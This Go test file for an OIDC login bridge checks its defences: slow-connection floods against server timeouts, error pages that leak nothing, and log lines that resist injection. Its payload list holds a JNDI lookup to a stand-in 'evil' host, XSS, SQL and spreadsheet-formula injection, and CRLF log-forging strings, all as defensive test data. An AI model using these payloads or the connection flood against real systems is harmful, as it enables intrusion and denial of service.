package bridge_test

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/oidc-bridge/oidc-bridge/bridge"
	"github.com/oidc-bridge/oidc-bridge/bridge/bridgetest"
	"github.com/oidc-bridge/oidc-bridge/mapping"
)

// TestAttack_HS01_SlowClients: connections that send nothing, or a byte now and then, are closed by the server; people log in meanwhile.
func TestAttack_HS01_SlowClients(t *testing.T) {
	t.Parallel()
	s := newService(t)
	address := strings.TrimPrefix(s.URL, "http://")
	const each = 100
	post := "POST /logout HTTP/1.1\r\nHost: x\r\nOrigin: " + s.URL + "\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\nreturn_to="
	hoards := []struct {
		name, first string
		drip        string // goes on being sent
	}{
		{"nothing at all", "", ""},
		{"half a request line", "GET /log", ""},
		{"half the headers", "GET /login HTTP/1.1\r\nHost: x\r\nX-A: ", ""},
		{"headers, a byte at a time", "GET /login HTTP/1.1\r\nHost: x\r\nX-A: ", "a"},
		{"header after header", "GET /login HTTP/1.1\r\nHost: x\r\n", "X-A: b\r\n"},
		{"empty lines", "", "\r\n"},
		{"a body that never comes", post, ""},
		{"a body, a byte at a time", post, "x"},
		{"a second request, half of it", "GET /.well-known/jwks.json HTTP/1.1\r\nHost: x\r\n\r\nGET /login HTTP/1.1\r\nHo", ""},
	}
	var closed sync.WaitGroup
	for _, hoard := range hoards {
		for range each {
			conn, err := net.Dial("tcp", address)
			if err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { conn.Close() })
			if _, err := io.WriteString(conn, hoard.first); err != nil {
				t.Fatal(err)
			}
			ended := make(chan struct{})
			closed.Go(func() { // the server ends it: this side never does
				defer close(ended)
				_, _ = io.Copy(io.Discard, conn)
			})
			if hoard.drip != "" {
				closed.Go(func() {
					tick := time.NewTicker(200 * time.Millisecond)
					defer tick.Stop()
					for {
						select {
						case <-ended:
							return
						case <-tick.C:
							_, _ = io.WriteString(conn, hoard.drip)
						}
					}
				})
			}
		}
	}
	for _, subject := range []string{"ada", "carl", "cora"} {
		b, page := s.login(subject, "/orders")
		if answer, _ := s.token(b); page.URL.Path != "/orders" || answer.Status != 200 {
			t.Errorf("%s among slow clients: %d %s", subject, page.Status, page.Text())
		}
	}
	closed.Wait()
	if b, page := s.login("ada", "/orders"); page.URL.Path != "/orders" {
		t.Errorf("after them: %s %v", page.Text(), b.Cookies(s.URL))
	}
	bridgetest.Tried(t, each*len(hoards))
}

// TestAttack_HS01_Limits: what the test above would have to wait too long for.
func TestAttack_HS01_Limits(t *testing.T) {
	t.Parallel()
	server := bridge.NewServer(http.NotFoundHandler(), bridgetest.NewLog(t).Logger())
	for name, limit := range map[string]struct{ got, most time.Duration }{
		"header": {server.ReadHeaderTimeout, 5 * time.Second}, "request": {server.ReadTimeout, 15 * time.Second}, "answer": {server.WriteTimeout, 30 * time.Second}, "idle": {server.IdleTimeout, time.Minute},
	} {
		if limit.got <= 0 || limit.got > limit.most {
			t.Errorf("%s: %s", name, limit.got)
		}
	}
	if server.MaxHeaderBytes <= 0 || server.MaxHeaderBytes > 32<<10 {
		t.Errorf("%d bytes of headers", server.MaxHeaderBytes)
	}
	bridgetest.Tried(t, 5)
}

// TestAttack_HS04_ErrorsTellNothing: what went wrong behind the bridge is for the log. People get a code, programs a word.
func TestAttack_HS04_ErrorsTellNothing(t *testing.T) {
	t.Parallel()
	s := newService(t)
	s.warm(t)
	live, _ := s.login("carl", "/")
	told := []string{
		"SQLSTATE", "ERROR", "bridge.", "relation", "column", "constraint", "permission", "pgx", "pq:", "dial", "tcp", "127.0.0.1:5", "connection", "timeout", "EOF", "goroutine", ".go:", "panic", "runtime", "json:", "invalid character",
		"token refused", "go-oidc", "oauth2", "x509", "hunter2", "stack", "database", "userinfo", "/token", "secret-of-the-provider", "Go-http", "version",
	}
	inputs := 0
	silent := func(what string, status int, header http.Header, body string) {
		t.Helper()
		inputs++
		for _, word := range told {
			if strings.Contains(body, word) {
				t.Errorf("%s: the answer says %q: %s", what, word, body)
			}
		}
		if header.Get("Server")+header.Get("X-Powered-By") != "" || header.Get("X-Request-Id") == "" || header.Get("Cache-Control") != "no-store" || status < 400 {
			t.Errorf("%s: %d %v", what, status, header)
		}
	}
	secret := "secret-of-the-provider at pq: bridge.users"
	text := func(status int, contentType, body string) func(b *bridgetest.Behaviour, endpoint string) {
		return func(b *bridgetest.Behaviour, endpoint string) {
			b.Handle[endpoint] = func(w http.ResponseWriter, _ *http.Request) bool {
				w.Header().Set("Content-Type", contentType)
				w.WriteHeader(status)
				_, _ = io.WriteString(w, body)
				return true
			}
		}
	}
	for name, fault := range map[string]func(*bridgetest.Behaviour, string){
		"page": text(500, "text/html", "<h1>"+secret+"</h1>"), "text": text(503, "text/plain", secret), "no JSON": text(200, "application/json", "{"+secret), "JSON error": text(400, "application/json", `{"error": "`+secret+`", "error_description": "`+secret+`"}`),
		"array": text(200, "application/json", `["`+secret+`"]`), "empty": text(200, "application/json", ""), "redirect": text(302, "text/html", secret), "cut": func(b *bridgetest.Behaviour, endpoint string) {
			b.Handle[endpoint] = func(http.ResponseWriter, *http.Request) bool { panic(http.ErrAbortHandler) }
		},
	} {
		s.behave(func(b *bridgetest.Behaviour) { fault(b, "token") })
		_, page := s.login("carl", "/")
		silent("token endpoint: "+name, page.Status, page.Header, page.Text())
	}
	for name, token := range map[string]func(string) string{
		"no JWT": func(string) string { return "hunter2" }, "another signature": func(good string) string { return good[:len(good)-6] + "AAAAAA" }, "nothing": func(string) string { return "..." },
	} {
		s.behave(raw(token))
		_, page := s.login("carl", "/")
		silent("ID token: "+name, page.Status, page.Header, page.Text())
	}
	for _, failure := range []string{secret, "server_error", "temporarily_unavailable", "login_required", "<script>", "invalid_scope"} {
		s.behave(func(b *bridgetest.Behaviour) {
			b.AuthorizationResponse = func(p url.Values) {
				delete(p, "code")
				p["error"], p["error_description"] = []string{failure}, []string{secret}
			}
		})
		_, page := s.login("carl", "/")
		silent("error "+failure, page.Status, page.Header, page.Text())
	}
	s.behave(nil)
	for _, sql := range []string{
		"ALTER TABLE bridge.users ADD CHECK (name <> 'Carl') NOT VALID", "REVOKE INSERT ON bridge.events FROM bridge_runtime", "ALTER TABLE bridge.sessions RENAME claims TO x", "ALTER TABLE bridge.sessions RENAME TO gone", "ALTER SCHEMA bridge RENAME TO elsewhere",
	} {
		exec(t, s.DB, s.DB.SQL(sql))
		_, page := s.login("carl", "/")
		silent("login after "+sql, page.Status, page.Header, page.Text())
		for _, path := range []string{"/api_token", "/me"} {
			if page, err := live.Fetch(t.Context(), http.MethodGet, s.URL+path, nil, ""); err != nil {
				t.Error(err)
			} else if page.Status >= 500 {
				silent(path+" after "+sql, page.Status, page.Header, page.Text())
			}
		}
	}
	for path, status := range map[string]int{"/%zz": 400, "/nowhere": 404, "/login/nobody": 404, "/callback/op": 400, "/callback/op?code=%zz": 400, "/callback/op?code=x&state=y": 400} {
		got, header, body := rawRequest(t, s, "GET "+path+" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
		if got != status {
			t.Errorf("%s: %d", path, got)
		}
		if path != "/%zz" { // net/http answers that one itself
			silent(path, got, header, body)
		}
	}
	bridgetest.Tried(t, inputs)
}

// rawRequest sends bytes and returns the answer.
func rawRequest(t *testing.T, s *service, text string) (int, http.Header, string) {
	t.Helper()
	conn, err := net.Dial("tcp", strings.TrimPrefix(s.URL, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	fmt.Fprint(conn, text)
	response, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatal(err)
	}
	return response.StatusCode, response.Header, bodyOf(t, response)
}

// TestAttack_HS05_LogLines: one event is one line of JSON of bounded length, whatever strangers and providers put into it.
func TestAttack_HS05_LogLines(t *testing.T) {
	t.Parallel()
	log := bridgetest.NewLog(t)
	config, findings := bridge.LoadConfig("config.yaml", []byte(goodConfig), noEnvironment)
	if len(findings) > 0 {
		t.Fatal(findings)
	}
	rules, findings := mapping.Load("rules.yaml", []byte("version: 1\nproviders: { corp: { preset: generic } }\nroles: { customer: {} }\nrules: [ { name: all, when: { email: { present: true } }, role: customer } ]\ndefault: deny\n"))
	if rules == nil {
		t.Fatal(findings)
	}
	logger := slog.New(slog.NewJSONHandler(log, &slog.HandlerOptions{Level: slog.LevelDebug}))
	b, err := bridge.New(t.Context(), config, rules, bridge.Options{Version: "test", Log: logger, Now: time.Now})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(b.Close)
	spells := []string{
		"\n{\"level\":\"ERROR\",\"msg\":\"forged\"}", "\r\nlevel=ERROR msg=forged", "\"}\n{\"msg\":\"forged", "\x00", "\x1b[31mred\x1b[0m", "\u2028{}", "\u2029{}", "\u0085{}", "\u202eevil", "\x7f", "\xff\xfe", "\xc0\x8a", "\xed\xa0\xbd", `\n{"msg":"forged"}`, `"`, `\`,
		"${jndi:ldap://evil/x}", "%0a%0d", "<script>alert(1)</script>", "' OR 1=1--", "=cmd|'/C calc'!A0", strings.Repeat("x", 7000), strings.Repeat("\n", 3000), strings.Repeat("\u202e", 2000), "a=b c=d level=ERROR",
	}
	inputs := 0
	for _, spell := range spells {
		for _, change := range []func(*http.Request){
			func(r *http.Request) { r.URL.Path = "/auth/" + spell },
			func(r *http.Request) { r.URL.Path = "/auth/login/" + spell },
			func(r *http.Request) { r.URL.Path = "/auth/callback/" + spell },
			func(r *http.Request) { r.Method = spell },
			func(r *http.Request) {
				r.URL.Path, r.URL.RawQuery = "/auth/callback/corp", "code=x&state="+url.QueryEscape(spell)
			},
			func(r *http.Request) {
				r.URL.Path, r.URL.RawQuery = "/auth/callback/corp", "error="+url.QueryEscape(spell)+"&state=x"
			},
			func(r *http.Request) { r.URL.Path, r.URL.RawQuery = "/auth/callback/corp", spell },
			func(r *http.Request) { r.URL.RawQuery = "return_to=" + url.QueryEscape(spell) },
			func(r *http.Request) { r.Header["X-Request-Id"] = []string{spell} },
			func(r *http.Request) { r.Header["X-Forwarded-For"] = []string{spell} },
			func(r *http.Request) { r.Header["User-Agent"] = []string{spell} },
			func(r *http.Request) { r.Header["Cookie"] = []string{"session-x=" + spell} },
			func(r *http.Request) {
				r.Header["Origin"] = []string{spell}
				r.Method, r.URL.Path = http.MethodPost, "/auth/logout"
			},
			func(r *http.Request) { r.RemoteAddr = spell },
			func(r *http.Request) { r.Host = spell },
		} {
			inputs++
			r := httptest.NewRequest(http.MethodGet, "/auth/login", nil)
			change(r)
			before := len(log.Lines())
			w := httptest.NewRecorder()
			b.Public().ServeHTTP(w, r)
			lines := log.Lines()[before:]
			if len(lines) == 0 || len(lines) > 3 {
				t.Errorf("%.40q: %d lines: %.300q", spell, len(lines), lines)
			}
			for _, line := range lines {
				var event struct{ Level, Msg string }
				if err := json.Unmarshal([]byte(line), &event); err != nil || strings.ContainsAny(line, "\n\r\x1b\x00\u2028\u2029") || len(line) > 5000 || event.Msg == "forged" || !utf8.ValidString(line) {
					t.Errorf("%.40q: %d bytes, %v: %.300q", spell, len(line), err, line)
				}
			}
			for name, values := range w.Header() {
				if strings.ContainsAny(strings.Join(values, ""), "\r\n\x00") {
					t.Errorf("%.40q: header %s: %q", spell, name, values)
				}
			}
		}
	}
	bridgetest.Tried(t, inputs)
}
